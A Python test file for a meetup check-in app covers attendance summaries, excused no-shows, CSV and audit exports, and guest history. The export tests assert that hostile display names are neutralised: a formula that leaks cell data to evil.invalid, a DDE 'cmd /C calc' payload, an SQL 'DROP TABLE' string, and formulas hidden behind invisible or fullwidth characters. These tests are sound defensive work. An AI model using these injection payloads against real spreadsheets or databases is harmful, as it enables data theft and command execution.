"""After the night: the attendance summary, excusing a no-show, the CSV exports (with the demo's hostile
names) and a guest's history in the organization."""

import csv
import io
from datetime import datetime, timedelta

import pytest
import requests
from helpers import assert_query_count, auth, create_meetup, events, read_csv

from doorapp.db import iso, utcnow
from doorapp.export import FORMULA_START
from doorapp.models import Ban, Guest, Meetup, MeetupGuest, Org

# The evening is drawn with fixed dates: they hold on the day they were written for, whatever today is.
pytestmark = pytest.mark.usefixtures("on_the_day")

DEMO = "https://demo.door.invalid/night-owls"


def base(meetup):
    return f"/organizations/{meetup.org_id}/meetups/{meetup.id}"


def add(meetup, platform_user_id, username, **fields):
    guest = Guest.get_or_none(platform_user_id=platform_user_id) or Guest.create(
        platform_user_id=platform_user_id, username=username, displayname=username.title()
    )
    return MeetupGuest.create(meetup=meetup, guest=guest, rsvp_time=datetime(2026, 11, 20), **fields)


def check_in(client, meetup, platform_user_id, at, **body):
    """Check in through the API, then move the arrival to `at` (the evening being drawn)."""
    reply = client.post_json(f"{base(meetup)}/guests/{platform_user_id}/checkin", body)
    MeetupGuest.update(arrival_time=at).where(
        MeetupGuest.meetup == meetup, MeetupGuest.guest == platform_user_id
    ).execute()
    return reply


@pytest.fixture
def evening(door, boss_user, meetup, guest, org):
    """Summer social as the doors close: alice (+2) and bob arrived, carol never came, dave cancelled,
    erin waitlisted, mallory (banned) forced in, trent's check-in undone, walk-in wendy, and Nadia, who is
    not on the platform, let in by name. Dated later: begun() makes it a night that has happened."""
    MeetupGuest.update(guests_count=2).where(MeetupGuest.guest == guest).execute()
    add(meetup, 2, "bob")
    add(meetup, 3, "carol")
    add(meetup, 4, "dave", cancelled_rsvp=True, cancelled_at=datetime(2026, 12, 1))
    add(meetup, 5, "erin", waitlisted=True)
    add(meetup, 6, "mallory")
    add(meetup, 7, "trent")
    Guest.create(platform_user_id=8, username="wendy", displayname="Wendy")
    Ban.create(org=org, guest=6, reason="Fought", banned_by=boss_user)
    start = datetime(2026, 12, 5, 20, 3)
    check_in(door, meetup, guest.platform_user_id, start)
    check_in(door, meetup, 2, start + timedelta(minutes=10))
    check_in(door, meetup, 6, start + timedelta(minutes=14), force=True)
    check_in(door, meetup, 7, start + timedelta(minutes=40))
    door.patch_json(f"{base(meetup)}/guests/7/undo-checkin", {"reason": "Wrong Trent"})
    door.post_json(f"{base(meetup)}/guests/8/add-walkin", {})
    check_in(door, meetup, 8, start + timedelta(minutes=50))
    nadia = door.post_json(f"{base(meetup)}/local-walkins", {"displayname": "Nadia Volkova"}, status=201)
    MeetupGuest.update(arrival_time=start + timedelta(minutes=55)).where(
        MeetupGuest.guest == nadia.json["guest"]["platform_user_id"]
    ).execute()
    return meetup


def test_the_summary_counts_the_evening_and_draws_arrivals_per_15_minutes(door, evening):
    begun(evening)  # over: who did not come is a no-show
    summary = door.get(f"{base(evening)}/summary").json
    assert summary["counts"] == {
        "rsvps": 6,
        "arrived": 5,
        "no_shows": 2,
        "upcoming": 0,
        "excused": 0,
        "cancelled": 1,
        "waitlisted": 1,
        "walkins": 2,
        "local_walkins": 1,
        "forced_check_ins": 1,
        "undone_check_ins": 1,
        "guests_brought": 2,
        "people": 7,
        "peak_inside": 7,  # nobody stepped out: everyone who came, the undone check-in aside
    }
    assert summary["meetup"]["counts"]["inside"] == 7 and summary["peak_at"] is not None
    assert summary["first_arrival"] == "2026-12-05T20:03:00Z"
    assert summary["last_arrival"] == "2026-12-05T20:58:00Z"
    assert summary["bar_minutes"] == 15
    assert summary["arrivals"] == [
        {"start": "2026-12-05T20:00:00Z", "count": 2},
        {"start": "2026-12-05T20:15:00Z", "count": 1},
        {"start": "2026-12-05T20:30:00Z", "count": 0},
        {"start": "2026-12-05T20:45:00Z", "count": 2},
    ]
    assert [(g["displayname"], g["outcome"]) for g in summary["guests"]] == [
        ("Alice Ångström", "ATTENDED"),
        ("Bob", "ATTENDED"),
        ("Mallory", "ATTENDED"),
        ("Wendy", "WALK_IN"),
        ("Nadia Volkova", "WALK_IN"),
        ("Carol", "NO_SHOW"),
        ("Dave", "CANCELLED"),
        ("Erin", "WAITLIST"),
        ("Trent", "NO_SHOW"),
    ]
    assert summary["outcomes"] == {"ATTENDED": 3, "WALK_IN": 2, "NO_SHOW": 2, "CANCELLED": 1, "WAITLIST": 1}
    alice = summary["guests"][0]
    assert (alice["guests_count"], alice["arrival_order"], alice["checked_in_by"]) == (2, 1, "sam")
    assert summary["guests"][6]["cancelled_at"] == "2026-12-01T00:00:00Z"
    assert summary["meetup"]["id"] == str(evening.id)


def test_a_meetup_nobody_came_to_has_an_empty_chart_and_no_no_show_before_it_is_over(door, boss, meetup):
    summary = door.get(f"{base(meetup)}/summary").json
    assert summary["arrivals"] == [] and summary["first_arrival"] is None
    assert summary["meetup"]["is_over"] is False
    assert (summary["counts"]["no_shows"], summary["counts"]["upcoming"]) == (0, 1)
    assert summary["guests"][0]["outcome"] == "UPCOMING"
    boss.patch_json(f"{base(meetup)}/finalize", {})
    summary = door.get(f"{base(meetup)}/summary").json
    assert (summary["counts"]["no_shows"], summary["counts"]["upcoming"]) == (1, 0)
    assert summary["guests"][0]["outcome"] == "NO_SHOW" and summary["meetup"]["is_over"] is True


def test_arrivals_over_more_than_a_day_widen_the_bars(door, meetup, guest):
    add(meetup, 2, "bob")
    check_in(door, meetup, guest.platform_user_id, datetime(2026, 12, 5, 20))
    check_in(door, meetup, 2, datetime(2026, 12, 8, 20))
    summary = door.get(f"{base(meetup)}/summary").json
    assert summary["bar_minutes"] == 60 and len(summary["arrivals"]) <= 96
    assert sum(bar["count"] for bar in summary["arrivals"]) == 2


def begun(meetup):
    """The meetup's date moved to an hour ago: it has begun (the fixtures' evenings are dated later)."""
    Meetup.update(date=utcnow() - timedelta(hours=1)).where(Meetup.id == meetup.id).execute()


def test_an_admin_excuses_a_no_show_with_a_reason_once(boss, evening):
    begun(evening)
    reply = boss.patch_json(f"{base(evening)}/guests/3/excuse", {"reason": "Sick, told us"}).json
    assert reply["outcome"] == "EXCUSED_ABSENCE" and reply["excused_at"]
    [event] = events("NO_SHOW_EXCUSED")
    assert (event.guest_id, event.reason, str(event.meetup_id)) == (3, "Sick, told us", str(evening.id))
    assert boss.get(f"{base(evening)}/summary").json["counts"]["excused"] == 1
    again = boss.patch_json(f"{base(evening)}/guests/3/excuse", {"reason": "again"}, status=409).json
    assert again["code"] == "already_excused"
    for who, outcome in ((1, "ATTENDED"), (4, "CANCELLED"), (5, "WAITLIST")):
        user_id = 9007199254740993 if who == 1 else who
        refused = boss.patch_json(
            f"{base(evening)}/guests/{user_id}/excuse", {"reason": "x"}, status=409
        ).json
        assert refused["code"] == "not_a_no_show" and outcome in refused["detail"]
    assert (
        boss.patch_json(f"{base(evening)}/guests/8/excuse", {"reason": "x"}, status=409).json["code"]
        == "not_a_no_show"
    )  # a walk-in
    assert boss.patch_json(f"{base(evening)}/guests/3/excuse", {}, status=422).json["errors"][0]["loc"] == [
        "body",
        "reason",
    ]
    Guest.create(platform_user_id=99, username="zed")
    assert (
        boss.patch_json(f"{base(evening)}/guests/99/excuse", {"reason": "x"}, status=404).json["code"]
        == "not_on_list"
    )
    assert len(events("NO_SHOW_EXCUSED")) == 1


def test_an_absence_is_excused_only_once_the_meetup_has_begun_and_a_check_in_ends_it(boss, door, evening):
    early = boss.patch_json(f"{base(evening)}/guests/3/excuse", {"reason": "Will be sick"}, status=409).json
    assert early["code"] == "meetup_not_started" and iso(evening.date) in early["detail"]
    assert events("NO_SHOW_EXCUSED") == []
    begun(evening)
    boss.patch_json(f"{base(evening)}/guests/3/excuse", {"reason": "Sick, told us"})
    door.post_json(f"{base(evening)}/guests/3/checkin", {})  # carol came after all
    door.patch_json(f"{base(evening)}/guests/3/undo-checkin", {"reason": "Wrong Carol"})
    guests = boss.get(f"{base(evening)}/summary").json["guests"]
    carol = next(g for g in guests if g["platform_user_id"] == 3)
    assert (carol["outcome"], carol["excused_at"]) == ("NO_SHOW", None)


def test_a_finalized_meetup_can_still_have_a_no_show_excused(boss, evening):
    boss.patch_json(f"{base(evening)}/finalize", {})
    assert (
        boss.patch_json(f"{base(evening)}/guests/7/excuse", {"reason": "Door mistake"}).json["outcome"]
        == "EXCUSED_ABSENCE"
    )


# --- CSV exports ------------------------------------------------------------------------------------------


def test_the_meetup_export_is_a_spreadsheet_safe_csv_of_the_demo_evening(door, boss, org):
    """The demo's book circle carries every hostile name of the demo community (HTML, SQL, and one
    formula per first character the rule names); they come out inert, and accents intact."""
    meetup = create_meetup(door, org, f"{DEMO}/book-circle").json
    door.post(f"/organizations/{org.id}/meetups/{meetup['id']}/sync")
    door.post_json(f"/organizations/{org.id}/meetups/{meetup['id']}/guests/1009/checkin", {})
    reply = boss.get(f"/organizations/{org.id}/meetups/{meetup['id']}/export")
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        reply.headers["Content-Disposition"] == 'attachment; filename="Book-circle-Borges-and-2026-12-10.csv"'
    )
    header, *rows = read_csv(reply)
    assert header == [
        "platform_user_id",
        "username",
        "displayname",
        "outcome",
        "guests_count",
        "guests_brought",
        "rsvp_time",
        "cancelled_at",
        "arrival_order",
        "arrival_time",
        "checked_in_by",
        "checked_in_pass_label",
        "checked_in_pass_made_by",
        "excused_at",
        "ban_overridden",
        "undone_check_ins",
        "tags",
        "note",
    ]
    assert len(rows) == 40 and all(len(row) == len(header) for row in rows)
    names = {int(row[0]): row[2] for row in rows}
    assert names[1009] == "'" + '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")'
    assert names[1010] == "'+SUM(1+1)*cmd|' /C calc'!A0" and names[1011].startswith("'-2+3")
    assert names[1012] == "'@SUM(1+1)" and names[1013] == "'\t=1+2" and names[1014] == "'\r=1+2"
    assert names[1006] == "Zoë Mîlle-Feuille" and names[1007] == "Robert'); DROP TABLE guests;--"
    assert names[9223372036854775807] == "Max Int64 🦉"  # 64-bit ids as their digits
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert rows[0][:4] == ["1009", "formula_equals", names[1009], "ATTENDED"] and rows[0][10] == "sam"
    assert {row[3] for row in rows[1:]} <= {"UPCOMING", "WAITLIST"}  # the book circle is still to come


def test_the_summary_and_its_csv_have_one_rule_the_same_columns_members_read_admins_download(
    boss, door, evening
):
    begun(evening)
    boss.patch_json(f"{base(evening)}/guests/3/excuse", {"reason": "Sick"})
    lines = door.get(f"{base(evening)}/summary").json["guests"]  # a member of the org
    header, *rows = read_csv(boss.get(f"{base(evening)}/export"))
    assert [list(line) for line in lines] == [header] * len(rows)
    as_text = [["" if v is None else str(v) for v in line.values()] for line in lines]
    for line in as_text:  # a guest's tags in a CSV are their labels (tests/test_tags.py)
        line[header.index("tags")] = ""
    assert [line["tags"] for line in lines] == [[]] * len(lines) and as_text == rows
    assert door.get(f"{base(evening)}/export", status=403).json["code"] == "org_admin_required"


def test_the_audit_export_takes_the_lists_filters(boss, door, evening, org):
    reply = boss.get(f"/organizations/{org.id}/events/export?type=CHECK_IN,UNDO_CHECK_IN&limit=1")
    assert reply.headers["Content-Disposition"] == 'attachment; filename="night-owls-audit-log.csv"'
    header, *rows = read_csv(reply)
    assert header == [
        "id",
        "timestamp",
        "event_type",
        "actor",
        "guest_id",
        "guest_username",
        "guest_displayname",
        "meetup_id",
        "meetup",
        "reason",
        "details",
    ]
    assert [row[2] for row in rows] == [
        "CHECK_IN",
        "CHECK_IN",
        "UNDO_CHECK_IN",
        "CHECK_IN",
        "CHECK_IN",
        "CHECK_IN",
        "CHECK_IN",
    ]  # newest first, every page
    assert rows[0][6] == "Nadia Volkova"
    assert rows[2][3:10] == ["sam", "7", "trent", "Trent", str(evening.id), "Summer social", "Wrong Trent"]
    assert rows[2][10].startswith('{"arrival_order": 4, "arrival_time": "')
    assert rows[4][10] == '{"forced": true}'
    bad = boss.get(f"/organizations/{org.id}/events/export?type=NOPE", status=422)
    assert bad.content_type == "application/problem+json"
    assert bad.json["errors"][0]["loc"] == ["query", "type"]
    assert door.get(f"/organizations/{org.id}/events/export", status=403).json["code"] == "org_admin_required"


def test_openapi_documents_the_exports_as_text_csv(client):
    paths = client.get("/openapi.json").json["paths"]
    for path in (
        "/organizations/{org_id}/meetups/{meetup_id}/export",
        "/organizations/{org_id}/events/export",
    ):
        assert list(paths[path]["get"]["responses"]["200"]["content"]) == ["text/csv"]
    summary = paths["/organizations/{org_id}/meetups/{meetup_id}/summary"]["get"]["responses"]["200"]
    assert list(summary["content"]) == ["application/json"]


# --- a guest's history --------------------------------------------------------------------------------------


def past_meetups(org, count, first=datetime(2026, 6, 1)):
    return [
        Meetup.create(
            org=org, name=f"Night {n}", date=first + timedelta(days=7 * n), platform_url=f"{DEMO}/night-{n}"
        )
        for n in range(count)
    ]


def history_at_the_door(door, meetup, guest_id):
    rows = door.get(f"{base(meetup)}/guests").json["guests"]
    return next(r["guest"]["history"] for r in rows if r["guest"]["platform_user_id"] == guest_id)


def test_the_door_row_shows_visits_and_recent_no_shows_and_an_excuse_clears_the_mark(
    door, boss, org, meetup, guest
):
    gid = guest.platform_user_id
    *old, a, b, c, d, e = past_meetups(org, 7)  # the last 5 before this meetup are the recent ones
    add(old[0], gid, "alice")  # a no-show, too long ago to count
    for past in (old[1], a, b):
        add(past, gid, "alice", has_arrived=True, arrival_time=past.date)
    for past in (c, d, e):
        add(past, gid, "alice")  # three recent no-shows
    history = history_at_the_door(door, meetup, gid)
    assert history == {
        "visits": 3,
        "last_visit": iso(b.date),
        "recent_no_shows": 3,
        "recent": 5,
        "repeat_no_show": True,
    }
    other = Org.create(name="Other", slug="other")
    add(past_meetups(other, 1)[0], gid, "alice")  # another org's no-show is not this org's business
    boss.patch_json(f"{base(c)}/guests/{gid}/excuse", {"reason": "Snow"})
    assert history_at_the_door(door, meetup, gid)["repeat_no_show"] is True  # still two
    boss.patch_json(f"{base(d)}/guests/{gid}/excuse", {"reason": "Flu"})
    history = history_at_the_door(door, meetup, gid)
    assert (history["recent_no_shows"], history["repeat_no_show"]) == (1, False)
    assert Ban.select().count() == 0  # a mark never bans


def test_an_admin_reads_a_guests_history_with_outcomes_and_bans(boss, door, org, meetup, guest):
    gid = guest.platform_user_id
    first, second = past_meetups(org, 2)
    add(first, gid, "alice", has_arrived=True, arrival_time=first.date, guests_count=1)
    add(second, gid, "alice")
    boss.patch_json(f"/organizations/{org.id}/guests/{gid}/ban", {"reason": "Rude"})
    boss.patch_json(f"/organizations/{org.id}/guests/{gid}/unban", {})
    boss.patch_json(f"/organizations/{org.id}/guests/{gid}/ban", {"reason": "Rude again"})
    history = boss.get(f"/organizations/{org.id}/guests/{gid}/history").json
    assert history["guest"] == {
        "platform_user_id": gid,
        "username": "alice",
        "displayname": "Alice Ångström",
        "is_local": False,
    }
    # Summer social is still to come: UPCOMING, not a no-show
    assert (history["attended"], history["no_shows"], history["excused"]) == (1, 1, 0)
    assert history["last_visit"] == "2026-06-01T00:00:00Z" and history["is_banned"] is True
    assert history["ban_reason"] == "Rude again"
    assert [(b["event_type"], b["reason"]) for b in history["bans"]] == [
        ("BAN", "Rude again"),
        ("UNBAN", None),
        ("BAN", "Rude"),
    ]
    assert [(m["name"], m["outcome"], m["guests_count"]) for m in history["meetups"]] == [
        ("Summer social", "UPCOMING", 0),
        ("Night 1", "NO_SHOW", 0),
        ("Night 0", "ATTENDED", 1),
    ]
    assert (
        door.get(f"/organizations/{org.id}/guests/{gid}/history", status=403).json["code"]
        == "org_admin_required"
    )
    assert boss.get(f"/organizations/{org.id}/guests/12345/history", status=404).json["code"] == "not_found"


def test_the_summary_takes_as_many_queries_for_2000_guests_as_for_one(door, meetup, make_user):
    with assert_query_count(5) as statements:  # user with membership, meetup, entries, check-ins, counts
        door.get(f"{base(meetup)}/summary")
    checker = make_user("tom").id
    Guest.insert_many([{"platform_user_id": i, "username": f"guest{i}"} for i in range(1, 2000)]).execute()
    MeetupGuest.insert_many(
        [
            {
                "meetup": meetup.id,
                "guest": i,
                "has_arrived": i % 2,
                "arrival_order": i,
                "checked_in_by": checker if i % 2 else None,
                "arrival_time": datetime(2026, 12, 5, 20) + timedelta(seconds=i),
            }
            for i in range(1, 2000)
        ]
    ).execute()
    with assert_query_count(len(statements)):
        summary = door.get(f"{base(meetup)}/summary").json
    assert summary["counts"]["arrived"] == 1000 and summary["guests"][0]["checked_in_by"] == "tom"


@pytest.mark.parametrize(
    "name",
    ["\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\uff1d1+1", "\uff0b1", "\uff201", "\ufe661+1", " =1+1"],
)
def test_a_formula_behind_invisible_marks_or_in_wide_forms_is_neutralised(
    live_server, boss_user, meetup, name
):
    """Through waitress: a name whose first visible character folds (NFKC) to = + - @ gets its `'`."""
    guest = Guest.create(platform_user_id=4242, username="sly", displayname=name)
    MeetupGuest.create(meetup=meetup, guest=guest, rsvp_time=datetime(2026, 11, 20, 10))
    url = f"{live_server}/organizations/{meetup.org_id}/meetups/{meetup.id}/export"
    reply = requests.get(url, headers=auth(boss_user), timeout=30)
    rows = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"), newline="")))
    assert [row[2] for row in rows if row[0] == "4242"] == ["'" + name]
